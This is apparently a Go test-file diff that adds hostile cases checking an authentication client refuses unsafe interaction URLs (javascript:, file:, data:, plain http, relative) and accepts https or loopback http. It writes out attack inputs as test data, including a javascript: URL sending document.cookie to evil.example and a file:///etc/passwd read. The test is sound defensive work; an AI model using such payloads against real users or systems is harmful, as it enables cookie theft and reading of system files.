@@ -22,6 +22,32 @@ import (
 func findingHostileCases() []hostileCase {
 	var cases []hostileCase
 
+	// Interaction URLs: only https, or http to a loopback host, may be
+	// handed to OnInteraction; anything else ends the request, and the
+	// error names the scheme, never the URL.
+	for _, bad := range []struct{ name, url, scheme string }{
+		{"javascript", "javascript:fetch('https://evil.example/?c='+document.cookie)", "javascript"},
+		{"file", "file:///etc/passwd", "file"},
+		{"data", "data:text/html,<script>alert(1)</script>", "data"},
+		{"plain-http", "http://consent.evil.example/approve", "http"},
+		{"relative", "/consent/approve", ""},
+	} {
+		cases = append(cases,
+			hostileCase{name: "interaction-url-" + bad.name + "-from-person-server", script: psInteraction(bad.url),
+				want: refusedInteraction(bad.url, bad.scheme)},
+			hostileCase{name: "interaction-url-" + bad.name + "-from-resource", script: resourceInteraction(bad.url),
+				want: refusedInteraction(bad.url, bad.scheme)},
+		)
+	}
+	cases = append(cases,
+		hostileCase{name: "interaction-url-javascript-from-person-server-seed", profile: aauth.ProfileSeed,
+			script: psInteraction("javascript:alert(1)"), want: refusedInteraction("javascript:alert(1)", "javascript")},
+		hostileCase{name: "interaction-url-https-passes", script: psInteractionThen("https://consent.example/approve"),
+			want: and(wantIs(aauth.ErrDenied), interactions(1))},
+		hostileCase{name: "interaction-url-loopback-http-passes", script: psInteractionThen("http://127.0.0.1:9/approve"),
+			want: and(wantIs(aauth.ErrDenied), interactions(1))},
+	)
+
 	// Egress checked at dial time. The attacker's DNS answers the checks
 	// (egress.SetResolverForTest) with a public address and the
 	// connection (the Base's dialer) with loopback, where an internal
@@ -69,6 +95,91 @@ func findingHostileCases() []hostileCase {
 	)
 
 	return cases
+}
+
+// pending202 answers a deferral that sends the person to u.
+func pending202(w http.ResponseWriter, u string) {
+	w.Header().Set("Location", "/pending/1")
+	w.Header().Set("Retry-After", "0")
+	w.Header().Set("AAuth-Requirement", `requirement=interaction; url="`+u+`"; code="ABCD1234"`)
+	w.WriteHeader(http.StatusAccepted)
+}
+
+// psInteraction makes the person server defer the first token request,
+// sending the person to u, for as long as it is polled.
+func psInteraction(u string) func(e *hostileEnv) {
+	return func(e *hostileEnv) {
+		pending := func(w http.ResponseWriter, r *http.Request) { pending202(w, u) }
+		e.fakePS(map[string]http.HandlerFunc{
+			"POST " + e.tokenPath(): pending,
+			"GET /pending/1":        pending,
+			"DELETE /pending/1":     e.cancel,
+		})
+	}
+}
+
+// psInteractionThen makes the person server send the person to u once,
+// then deny the request: whether u reached OnInteraction is what counts.
+func psInteractionThen(u string) func(e *hostileEnv) {
+	return func(e *hostileEnv) {
+		e.fakePS(map[string]http.HandlerFunc{
+			"POST " + e.tokenPath(): func(w http.ResponseWriter, r *http.Request) { pending202(w, u) },
+			"GET /pending/1": func(w http.ResponseWriter, r *http.Request) {
+				w.Header().Set("Content-Type", "application/problem+json")
+				w.WriteHeader(http.StatusForbidden)
+				w.Write([]byte(`{"error":"denied"}`))
+			},
+		})
+	}
+}
+
+// resourceInteraction makes a resource defer every request, sending the
+// person to u, for as long as it is polled.
+func resourceInteraction(u string) func(e *hostileEnv) {
+	return func(e *hostileEnv) {
+		e.target = e.server(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			if r.Method == http.MethodDelete {
+				e.cancel(w, r)
+				return
+			}
+			pending202(w, u)
+		})).URL + "/data"
+	}
+}
+
+// refusedInteraction expects the request to end with an error matching
+// ErrInteraction, naming scheme but not url, without OnInteraction being
+// called, and the pending request cancelled.
+func refusedInteraction(url, scheme string) hostileWant {
+	return and(wantIs(aauth.ErrInteraction), interactions(0),
+		wantAs("names the scheme "+scheme, func(ie *psclient.InteractionURLError) bool { return ie.Scheme == scheme }),
+		messageLacks(url), cancelledOnce())
+}
+
+// interactions expects OnInteraction to have been called n times.
+func interactions(n int) hostileWant {
+	return also(fmt.Sprintf("%d OnInteraction calls", n), func(e *hostileEnv) error {
+		if got := e.interactions.Load(); int(got) != n {
+			return fmt.Errorf("%d OnInteraction calls", got)
+		}
+		return nil
+	})
+}
+
+// cancelledOnce expects one DELETE of the pending request.
+func cancelledOnce() hostileWant {
+	return also("the pending request cancelled", func(e *hostileEnv) error {
+		if n := e.cancelled.Load(); n != 1 {
+			return fmt.Errorf("%d DELETEs", n)
+		}
+		return nil
+	})
+}
+
+// cancel answers a DELETE of a pending request, counting it.
+func (e *hostileEnv) cancel(w http.ResponseWriter, r *http.Request) {
+	e.cancelled.Add(1)
+	w.WriteHeader(http.StatusNoContent)
 }
 
 // tlsListener is a TLS test server of the case.
